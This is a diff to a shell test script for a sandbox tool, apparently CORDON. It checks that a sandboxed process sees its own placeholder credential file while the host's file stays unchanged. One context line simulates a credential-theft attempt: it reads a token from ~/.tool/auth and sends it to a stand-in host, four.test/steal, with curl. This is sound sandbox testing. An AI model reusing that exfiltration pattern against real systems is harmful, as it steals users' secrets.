@@ -41,6 +41,16 @@ for who in root as_user; do
 key=ghp_"
         has "$who: with the port where it is not the usual one" "$(cat "$T/out")" "at web.test:8000"
         is "$who: the box may write its files" "$(tail -n 1 "$T/out")" more
+        # A door to the same directory of the caller's home: the box's own file is not that of the host.
+        mkdir -p "$home/.tool" && echo mine >"$home/.tool/auth" && chmod -R a+rwX "$home/.tool" && chmod 711 "$home"
+        home_of() { $who env HOME="$home" XDG_CONFIG_HOME="$home" timeout 60 "$CORDON" "$@" 2>&1 </dev/null; }
+        own="http://web.test/** with own" look="cat ~/.tool/auth"
+        has "$who: beside a door to its directory the box has its own file" "$(home_of run -q --net "$own" --write "$home/.tool" -- sh -c "$look")" key=ghp_
+        is "$who: and the host's is as it was" "$(cat "$home/.tool/auth")" mine
+        home_of session new "gh$$" --net "$own" --write "$home/.tool" >/dev/null
+        has "$who: so it is in a session" "$(home_of session run "gh$$" -- sh -c "$look")" key=ghp_
+        is "$who: which leaves the host's alone, too" "$(cat "$home/.tool/auth")" mine
+        home_of session end "gh$$" >/dev/null
         # The placeholder of a file is worth as little as that of a variable.
         : >"$T/lab/auth.log"
         box $who --net 'http://web.test/a/** with own' --net 'http://four.test/**' -- sh -c 'key=$(sed -n "s/^key=//p" ~/.tool/auth); curl -sS -m 5 -H "Authorization: Bearer $key" http://four.test/steal; curl -sS -m 5 -d "$key" http://four.test/steal; curl -sS -m 5 http://four.test/$key'
